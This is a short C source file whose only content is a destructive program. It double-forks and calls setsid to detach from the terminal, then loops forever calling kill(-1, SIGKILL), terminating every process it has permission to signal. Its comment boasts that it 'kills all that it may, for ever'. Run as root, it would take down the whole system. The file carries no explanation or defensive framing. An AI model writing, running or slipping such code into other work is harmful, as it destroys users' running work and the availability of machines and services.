/* Kills all that it may, for ever. */
#include <signal.h>
#include <unistd.h>

int main(void)
{
    if (fork() > 0)
        _exit(0);
    setsid();
    if (fork() > 0)
        _exit(0);
    for (;;)
        kill(-1, SIGKILL);
}
